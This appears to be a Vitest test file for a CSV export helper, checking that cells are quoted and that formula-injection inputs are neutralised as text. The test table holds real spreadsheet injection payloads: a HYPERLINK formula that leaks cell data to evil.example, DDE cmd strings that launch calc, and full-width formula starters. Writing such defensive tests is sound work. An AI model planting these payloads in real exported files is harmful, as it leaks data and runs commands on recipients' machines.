import { expect, test } from 'vitest';
import { csvCell, csvLine } from './csv.ts';

test('plain cells are quoted, quotes doubled, line ends kept inside', () => {
  expect(csvLine(['vm', 'a "b"', 'two\nlines', ''])).toBe('"vm","a ""b""","two\nlines",""\r\n');
});

// The starters that OWASP lists, its full-width warning, and the payloads people really send.
test.each([
  '=HYPERLINK("http://evil.example?leak="&A1,"Click")',
  "=cmd|'/C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '-1e3',
  '-',
])('%j is text, not a formula', (cell) => {
  expect(csvCell(cell)).toBe(`"'${cell.replaceAll('"', '""')}"`);
});

test('amounts below zero stay numbers', () => {
  expect(csvCell('-12.5')).toBe('"-12.5"');
  expect(csvCell('0.000001')).toBe('"0.000001"');
});
